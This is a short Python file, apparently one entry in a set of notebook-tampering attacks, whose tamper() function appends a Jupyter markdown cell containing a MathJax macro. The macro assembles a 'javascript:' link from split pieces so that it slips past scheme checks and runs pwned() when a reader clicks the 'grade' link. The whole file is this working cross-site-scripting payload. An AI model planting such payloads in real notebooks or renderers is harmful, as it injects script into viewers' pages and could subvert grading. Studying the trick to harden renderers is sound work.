r"""Have MathJax make a link that runs code, with its scheme put together by a macro.

Wins: page.
"""

import nbformat


def tamper(notebook):
    text = r"$\newcommand{\go}[1]{\href{#1script:pwned()}{grade}}\go{java}$"
    notebook.cells.append(nbformat.v4.new_markdown_cell(text))
